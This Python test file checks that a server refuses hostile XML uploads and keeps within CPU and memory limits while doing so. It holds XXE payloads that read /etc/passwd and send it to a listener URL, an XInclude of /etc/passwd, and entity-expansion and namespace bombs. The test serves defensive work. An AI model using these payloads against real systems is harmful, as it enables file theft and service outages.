"""Every document that is refused, and some that are only hostile, from two clients at once beside pushes and polls that go on."""

import os
import socket
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Server, together
from tests.faults.readers import History
from tests.faults.test_nodes_processes import web_workers
from tests.pace import pace
from tests.test_lifecycle import document
from tests.test_server import cases

pytestmark = pytest.mark.slow
MEGABYTE = 1024
GROWTH = 200 * MEGABYTE  # kilobytes by which both workers together may grow at their peak
EACH = 0.15  # seconds of processor time that a hostile document may take on average, with what goes on beside it


def with_doctype(inside: str, text: str) -> bytes:
    return f"<!DOCTYPE release [{inside}]>".encode() + document("tag:hostile,2026:1").replace(
        "본문 한 단락.".encode(), text.encode()
    )


def hostile(port: int) -> dict[str, bytes]:
    """`port`: where the documents would have something fetched."""
    url = f"http://127.0.0.1:{port}/x"
    plain = document("tag:hostile,2026:2")
    prefixes = " ".join(f'xmlns:n{n}="urn:n{n}"' for n in range(100_000))
    levels = "".join("<b" + "".join(f' xmlns:n{level}-{n}="u"' for n in range(50)) + ">" for level in range(250))
    return {
        "entity fetched": with_doctype(f'<!ENTITY x SYSTEM "{url}">', "&x;"),
        "public entity fetched": with_doctype(f'<!ENTITY x PUBLIC "-//X" "{url}">', "&x;"),
        "parameter entity fetched": with_doctype(f'<!ENTITY % p SYSTEM "{url}"> %p;', "x"),
        "file sent away": with_doctype(
            f"<!ENTITY % f SYSTEM 'file:///etc/passwd'><!ENTITY % s \"<!ENTITY x SYSTEM '{url}?%f;'>\"> %s;", "&x;"
        ),
        "entity in an attribute": with_doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', '<a href="&x;">x</a>'),
        "external subset": plain.replace(b"<release", f'<!DOCTYPE release SYSTEM "{url}"><release'.encode(), 1),
        "recursive entities": with_doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
        "quadratic": with_doctype(f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 20_000),
        "empty entities": with_doctype('<!ENTITY a "">', "&a;" * 500_000),
        "default of an attribute": with_doctype('<!ATTLIST article version CDATA "9">', "x"),
        "many prefixes": plain.replace(b"<article", f"<article {prefixes}".encode(), 1),
        "prefixes in depth": plain.replace("본문 한 단락.".encode(), f"{levels}{'</b>' * 250}".encode()),
        "long name": plain.replace("본문 한 단락.".encode(), b"<" + b"n" * 60_000 + b"/>"),
        "xinclude": plain.replace(
            "<p>본문 한 단락.</p>".encode(),
            b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>',
        ),
    }


def spent(pids: list[int]) -> float:
    """Seconds of processor time of these processes."""
    fields = [Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split() for pid in pids]
    return sum(int(field[11]) + int(field[12]) for field in fields) / os.sysconf("SC_CLK_TCK")


def peak(pids: list[int]) -> int:
    """Kilobytes."""
    return sum(int(Path(f"/proc/{pid}/status").read_text().partition("VmHWM:")[2].split()[0]) for pid in pids)


def test_hostile_documents_are_refused_and_hold_up_nobody(own_server: Callable[..., Server]) -> None:
    server = own_server(workers="2", token_rate="0/minute", address_rate="0/minute").start()
    history = History("usual", server.office("usual", "여느청", "kr:51"))
    token = server.office()
    with socket.create_server(("127.0.0.1", 0)) as listener:
        corpus = [(name, lambda body=body: body, {}) for name, body in hostile(listener.getsockname()[1]).items()]
        corpus += [(case.id, *case.values) for case in cases() if "xml" in _type(case.values[1])]
        workers = web_workers(server)
        wrong: list[Any] = []

        def attack(half: int) -> None:
            for name, make, expected in corpus[half::2]:
                headers = {"Content-Type": _type(expected)} | expected.get("headers", {})
                answer = server.push(expected.get("token", token), make(), **headers)
                problem = answer.json()
                if answer.headers["Content-Type"] != "application/problem+json" or not (
                    400 <= answer.status_code == problem["status"] < 500 and "passwd" not in answer.text
                ):
                    wrong.append((name, answer.status_code, answer.text[:300]))

        for worker in workers:
            Path(f"/proc/{worker}/clear_refs").write_text("5")  # the peak is counted from here
        size, before = peak(workers), spent(workers)
        with history.under_load(server, [server]):
            together(partial(attack, 0), partial(attack, 1))
        taken, grown = spent(workers) - before, peak(workers) - size
        print(
            f"{len(corpus)} documents: {taken:.1f} s, {grown} kB, {len(history.acknowledged)} pushes, {len(history.polls)} polls"
        )
        assert wrong == []
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):  # nothing was fetched
            listener.accept()
    assert web_workers(server) == workers, "none had to be replaced"
    assert grown < GROWTH
    assert taken < EACH * len(corpus) or taken < EACH * len(corpus) * pace()
    assert len(history.acknowledged) > 20 and len(history.polls) > 20
    history.check(server)


def _type(expected: dict[str, Any]) -> str:
    return str(expected.get("content_type", "application/xml"))
